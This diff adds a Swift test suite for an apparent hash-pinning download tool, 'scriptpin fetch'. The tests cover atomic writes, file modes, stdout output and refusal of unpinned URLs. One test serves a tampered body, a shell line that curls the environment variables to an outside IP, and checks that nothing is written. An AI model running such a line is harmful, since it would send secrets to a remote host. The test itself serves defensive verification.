@@ -1,0 +1,91 @@
+import Foundation
+import Testing
+
+@Suite("scriptpin fetch against a real HTTPS server")
+struct FetchCommandTests {
+    let server: HTTPSFixture
+    let work: Workspace
+
+    init() throws {
+        server = try HTTPSFixture()
+        work = Workspace(server: server)
+    }
+
+    /// A small tarball made with tar itself, served and pinned as `tool-tgz`.
+    private func pinnedTarball() throws -> Data {
+        let source = TemporaryDirectory()
+        source.write("tool/bin/tool", "#!/bin/sh\necho tool\n")
+        #expect(ProcessRunner.run("tar", ["-czf", "tool.tgz", "tool"], in: source.path).status == 0)
+        let tarball = try Data(contentsOf: URL(fileURLWithPath: source.url("tool.tgz")))
+        server.root.write("files/tool.tgz", tarball)
+        let digest = ProcessRunner.run("sha256sum", [server.root.url("files/tool.tgz")], in: work.path).stdout.prefix(64)
+        work.directory.write("known-hashes/tool-tgz.pin", "url \(server.url("files/tool.tgz"))\nsha256 \(digest)\n")
+        return tarball
+    }
+
+    @Test("A pinned artifact is written atomically to -o FILE with mode 0644, or --mode")
+    func toFile() throws {
+        let tarball = try pinnedTarball()
+        let result = work.scriptpin(["fetch", "tool-tgz", "-o", "out/tool.tgz"])
+        #expect(result.status == 125, "the directory must exist: \(result.stderr)")
+        try FileManager.default.createDirectory(atPath: work.directory.url("out"), withIntermediateDirectories: true)
+        let written = work.scriptpin(["fetch", "tool-tgz", "-o", "out/tool.tgz"])
+        #expect(written.status == 0, "\(written.stderr)")
+        #expect(written.stdout.isEmpty)
+        #expect(try Data(contentsOf: URL(fileURLWithPath: work.directory.url("out/tool.tgz"))) == tarball)
+        #expect((try FileManager.default.attributesOfItem(atPath: work.directory.url("out/tool.tgz"))[.posixPermissions] as? Int) == 0o644)
+        #expect(try FileManager.default.contentsOfDirectory(atPath: work.directory.url("out")) == ["tool.tgz"], "no temporary file left")
+        #expect(work.scriptpin(["fetch", "tool-tgz", "-o", "out/tool.tgz", "--mode", "0755"]).status == 0)
+        #expect((try FileManager.default.attributesOfItem(atPath: work.directory.url("out/tool.tgz"))[.posixPermissions] as? Int) == 0o755)
+    }
+
+    @Test("Without -o, or with -o -, the verified bytes go to stdout, and tar unpacks them")
+    func toStdout() throws {
+        let tarball = try pinnedTarball()
+        #expect(work.scriptpin(["fetch", "tool-tgz"]).stdoutData == tarball)
+        #expect(work.scriptpin(["fetch", "tool-tgz", "-o", "-"]).stdoutData == tarball)
+        let unpacked = ProcessRunner.run(
+            "/bin/sh", ["-c", "\"$0\" fetch tool-tgz | tar -xzO tool/bin/tool", ProcessRunner.scriptpinPath],
+            in: work.path, environment: work.environment())
+        #expect(unpacked.stdout == "#!/bin/sh\necho tool\n")
+    }
+
+    @Test("A body that does not match writes nothing: no file, and tar receives zero bytes")
+    func mismatchWritesNothing() throws {
+        _ = try pinnedTarball()
+        server.root.write("files/tool.tgz", Data("#!/bin/sh\ncurl -d \"$(env)\" https://203.0.113.9/c\n".utf8))
+        let toFile = work.scriptpin(["fetch", "tool-tgz", "-o", "tool.tgz"])
+        #expect(toFile.status == 125)
+        #expect(toFile.stderr.contains("does not match its pin"))
+        #expect(!work.directory.exists("tool.tgz"))
+        #expect(try FileManager.default.contentsOfDirectory(atPath: work.path).filter { $0.hasPrefix(".tool.tgz") }.isEmpty)
+        let piped = ProcessRunner.run(
+            "/bin/sh", ["-c", "\"$0\" fetch tool-tgz | wc -c", ProcessRunner.scriptpinPath],
+            in: work.path, environment: work.environment())
+        #expect(piped.stdout.trimmingCharacters(in: .whitespacesAndNewlines) == "0")
+    }
+
+    @Test("An unpinned URL is refused with its digest; --sha256 pins ad hoc; an unreachable pin exits 124 or uses the store")
+    func policy() throws {
+        let tarball = try pinnedTarball()
+        let url = server.url("files/tool.tgz")
+        server.root.write("files/other.bin", Data("other\n".utf8))
+        let unpinned = work.scriptpin(["fetch", server.url("files/other.bin")])
+        #expect(unpinned.status == 125)
+        #expect(unpinned.stderr.hasPrefix("Error: \(server.url("files/other.bin")) is not pinned; it served sha256:"))
+        #expect(unpinned.stdout.isEmpty)
+        let adHoc = work.scriptpin(["fetch", server.url("files/other.bin"), "--sha256", sha256Hex("other\n")])
+        #expect(adHoc.status == 0)
+        #expect(adHoc.stdout == "other\n")
+        #expect(work.scriptpin(["fetch", url]).stdoutData == tarball, "by URL, pinned in the manifest")
+        try FileManager.default.removeItem(atPath: server.root.url("files/tool.tgz"))
+        let fromStore = work.scriptpin(["fetch", "tool-tgz"])
+        #expect(fromStore.status == 0)
+        #expect(fromStore.stdoutData == tarball)
+        #expect(fromStore.stderr.contains("scriptpin: writing the stored copy of pin 'tool-tgz'"))
+        try FileManager.default.removeItem(atPath: work.cache)
+        let unreachable = work.scriptpin(["fetch", "tool-tgz"])
+        #expect(unreachable.status == 124)
+        #expect(unreachable.stderr.contains("answered HTTP 404"))
+    }
+}
